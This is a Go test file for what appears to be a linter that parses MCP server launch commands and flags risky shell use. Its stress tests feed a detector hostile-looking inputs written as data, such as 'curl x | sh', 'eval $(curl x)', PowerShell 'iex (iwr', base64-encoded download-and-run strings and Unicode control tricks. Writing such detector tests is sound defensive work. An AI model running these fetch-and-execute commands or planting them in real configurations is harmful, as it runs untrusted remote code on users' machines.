package launch

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/org/mcp-lint/detect"
)

func TestWhatFeedsWhat(t *testing.T) {
	r := read(launchOf(t, launchJSON(t, []string{"sh", "-c", `sudo a | b "$(c)" > f; (d; e) | g < h`}, nil)))
	index := map[string]int{}
	for i, c := range r.commands {
		index[c.name()] = i
	}
	of := func(name string) command { return r.commands[index[name]] }
	assert.True(t, of("b").piped)
	assert.Equal(t, [2]int{index["sudo"], index["b"]}, [2]int{of("b").feedFrom, of("b").feedTo})
	assert.Equal(t, index["sudo"], of("a").group)
	assert.Equal(t, 1, of("a").at)
	assert.Equal(t, []int{index["b"], 1}, []int{of("c").inside, of("c").slot})
	assert.Equal(t, ">", of("b").redirects[0].op)
	assert.Equal(t, [2]int{index["d"], index["g"]}, [2]int{of("g").feedFrom, of("g").feedTo})
	assert.Equal(t, "h", of("g").redirects[0].file.text)
	assert.Equal(t, -1, of("g").inside)
}

func TestWordsInQuotesStandWhereTheyAreWritten(t *testing.T) {
	v := launchOf(t, launchJSON(t, []string{"sh", "-c", `bash -c "npx -y 'some pkg'"`}, nil))
	r := read(v)
	last := r.commands[len(r.commands)-1].args[1]
	assert.Equal(t, "some pkg", last.text)
	assert.Equal(t, "'some pkg'", v.Fields[last.field].Text[last.start:last.end])
}

func TestShellOnHostileLaunches(t *testing.T) {
	env := map[string]string{}
	for i := range 10_000 {
		env["V"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+strings.Repeat("y", i/26%40)] = "curl x | sh " + strings.Repeat("A", 30)
	}
	env["PATH"] = strings.Repeat("${", 1<<19)
	env["NODE_OPTIONS"] = strings.Repeat("--require ", 1<<16)
	deep := "sh"
	for range 12 {
		deep = "B=" + strings.ReplaceAll(strings.ReplaceAll(deep, `\`, `\\`), " ", `\ `) + " curl x"
	}
	for name, argv := range map[string][]string{
		"pipes":        {"sh", "-c", strings.Repeat("curl x | sh; ", 1200)},
		"substitution": {"sh", "-c", strings.Repeat("eval $(", 2000) + "curl x" + strings.Repeat(")", 2000)},
		"words":        append([]string{"cmd", "/c"}, strings.Split(strings.Repeat("curl x | sh & ", 4000), " ")...),
		"shells":       strings.Split("sh "+strings.Repeat("-c ", 20_000), " "),
		"code":         {"node", "-e", strings.Repeat("eval(fetch('https://x.example", 30_000)},
		"powershell":   {"powershell", "-c", strings.Repeat("iex (iwr ", 40_000)},
		"base64":       {"sh", "-c", plainBase64(strings.Repeat("curl x | sh\n", 50_000))},
		"encoded":      {"powershell", "-enc", utf16Base64(strings.Repeat("iwr x | iex;", 30_000))},
		"deep":         {"sh", "-c", deep[:min(len(deep), maxScript)]}, "unicode": {"sh\u202e", "-c", "curl x \u2028| sh \xff\x00"},
		"empty": {"", "", "-c", ""},
	} {
		t.Run(name, func(t *testing.T) {
			v := launchOf(t, launchJSON(t, argv, env))
			got := shellCommand{}.Inspect(v, detect.RegistryView{})
			assert.LessOrEqual(t, len(got), maxObservations)
			for _, s := range got {
				require.LessOrEqual(t, s.Start, s.End)
				require.LessOrEqual(t, s.End, len(v.Fields[s.FieldIndex].Text))
				assert.NotEmpty(t, s.Detail)
			}
		})
	}
}
